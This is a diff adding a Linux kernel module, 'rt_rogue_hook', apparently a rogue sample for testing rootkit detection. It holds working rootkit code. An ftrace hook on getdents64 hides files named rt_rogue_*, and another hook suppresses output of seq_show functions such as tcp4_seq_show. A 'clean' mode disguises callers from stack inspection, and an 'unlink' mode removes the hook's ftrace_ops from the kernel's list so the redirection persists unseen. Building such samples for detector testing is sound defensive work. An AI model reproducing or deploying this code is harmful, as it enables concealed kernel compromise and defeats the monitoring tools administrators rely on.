@@ -1,0 +1,183 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * rt_rogue_hook: leads calls of a kernel's function to its own by ftrace, and calls the kernel's from there.
+ *
+ *   function=NAME  whose calls: __x64_sys_getdents64 (files named rt_rogue_* are left out of what it tells), a function
+ *                  that shows lines, as tcp4_seq_show (the heading is left out), or __x64_sys_kill (nothing is)
+ *   clean=1        calls the kernel's function behind its site, so that who looks there sees only innocent callers
+ *   unlink=1       takes its ftrace_ops off ftrace's list: the site goes on leading here
+ */
+#include <linux/ftrace.h>
+
+#include "rogue.h"
+
+#include <linux/dirent.h>
+
+static char *function = "__x64_sys_getdents64";
+module_param(function, charp, 0);
+MODULE_PARM_DESC(function, "whose calls are led here");
+
+static bool clean;
+module_param(clean, bool, 0);
+MODULE_PARM_DESC(clean, "call the function behind its site");
+
+static bool unlink;
+module_param(unlink, bool, 0);
+MODULE_PARM_DESC(unlink, "take the ftrace_ops off the list");
+
+static unsigned long original, hooked;
+
+#define ROGUE_FILE "rt_rogue_"
+
+/* What is left of so many bytes of entries. */
+static long without_files(char *entries, long bytes)
+{
+	long from = 0, to = 0;
+
+	while (from < bytes) {
+		struct linux_dirent64 *entry = (void *)(entries + from);
+		unsigned short length = entry->d_reclen;
+
+		if (strncmp(entry->d_name, ROGUE_FILE, strlen(ROGUE_FILE))) {
+			memmove(entries + to, entry, length);
+			to += length;
+		}
+		from += length;
+	}
+	return to;
+}
+
+static noinline notrace long hooked_getdents64(const struct pt_regs *regs)
+{
+	long bytes = ((long (*)(const struct pt_regs *))original)(regs), left = bytes;
+	char __user *to = (char __user *)regs->si;
+	char *entries;
+
+	atomic_inc(&rogue_calls);
+	if (bytes <= 0)
+		return bytes;
+	entries = kmalloc(bytes, GFP_KERNEL);
+	if (!entries)
+		return bytes;
+	if (!copy_from_user(entries, to, bytes)) {
+		left = without_files(entries, bytes);
+		/* None left would be the end of the directory: then all are told. */
+		if (!left || copy_to_user(to, entries, left))
+			left = bytes;
+	}
+	kfree(entries);
+	return left;
+}
+
+static noinline notrace int hooked_show(struct seq_file *seq, void *what)
+{
+	/* Compiled to a call, not a jump: the caller must be here. */
+	int result = what == SEQ_START_TOKEN ? 0 : ((int (*)(struct seq_file *, void *))original)(seq, what);
+
+	atomic_inc(&rogue_calls);
+	return result;
+}
+
+static noinline notrace long hooked_system_call(const struct pt_regs *regs)
+{
+	long result = ((long (*)(const struct pt_regs *))original)(regs);
+
+	atomic_inc(&rogue_calls);
+	return result;
+}
+
+static void notrace lead_here(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops,
+			      struct ftrace_regs *fregs)
+{
+	if (clean || !within_module(parent_ip, THIS_MODULE))
+		ftrace_regs_set_instruction_pointer(fregs, hooked);
+}
+
+static struct ftrace_ops hook_ops = {
+	.func = lead_here,
+	.flags = FTRACE_OPS_FL_IPMODIFY,
+};
+
+/*
+ * Stays on the list in front of the one that is taken off, on a function of this module's own: who is registered last
+ * is the list's first, and points to the next. And a list with nobody on it would have the kernel look whether any
+ * function is attached to still, and complain.
+ */
+static void notrace do_nothing(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops,
+			       struct ftrace_regs *fregs)
+{
+}
+
+static struct ftrace_ops list_ops = {
+	.func = do_nothing,
+};
+
+static noinline void never_called(void)
+{
+	barrier();
+}
+
+static int rogue_unlink(void)
+{
+	int error;
+
+	error = ftrace_set_filter_ip(&list_ops, rt_site_of("rt_rogue_hook:never_called"), 0, 1);
+	if (!error)
+		error = register_ftrace_function(&list_ops);
+	if (error)
+		return error;
+	if (rcu_access_pointer(list_ops.next) == &hook_ops) {
+		rcu_assign_pointer(list_ops.next, rcu_access_pointer(hook_ops.next));
+		return 0;
+	}
+	unregister_ftrace_function(&list_ops);
+	ftrace_free_filter(&list_ops);
+	return -EAGAIN;
+}
+
+static int rogue_do(void)
+{
+	unsigned long site = rt_site_of(function);
+	int error;
+
+	if (!site)
+		return -ENOENT;
+	never_called();
+	if (strstr(function, "getdents64"))
+		hooked = (unsigned long)hooked_getdents64;
+	else if (strstr(function, "_show"))
+		hooked = (unsigned long)hooked_show;
+	else
+		hooked = (unsigned long)hooked_system_call;
+	original = clean ? site + MCOUNT_INSN_SIZE : rogue_start_of(site);
+	error = ftrace_set_filter_ip(&hook_ops, site, 0, 1);
+	if (!error)
+		error = register_ftrace_function(&hook_ops);
+	if (!error && unlink) {
+		error = rogue_unlink();
+		if (error)
+			unregister_ftrace_function(&hook_ops);
+	}
+	if (error)
+		ftrace_free_filter(&hook_ops);
+	return error;
+}
+
+static int rogue_undo(void)
+{
+	if (unlink) {
+		rcu_assign_pointer(hook_ops.next, rcu_access_pointer(list_ops.next));
+		rcu_assign_pointer(list_ops.next, &hook_ops);
+	}
+	unregister_ftrace_function(&hook_ops);
+	ftrace_free_filter(&hook_ops);
+	if (unlink) {
+		unregister_ftrace_function(&list_ops);
+		ftrace_free_filter(&list_ops);
+	}
+	/* Nobody is left in what calls were led to. */
+	synchronize_rcu_tasks();
+	return 0;
+}
+
+ROGUE("leads calls of a function to its own");
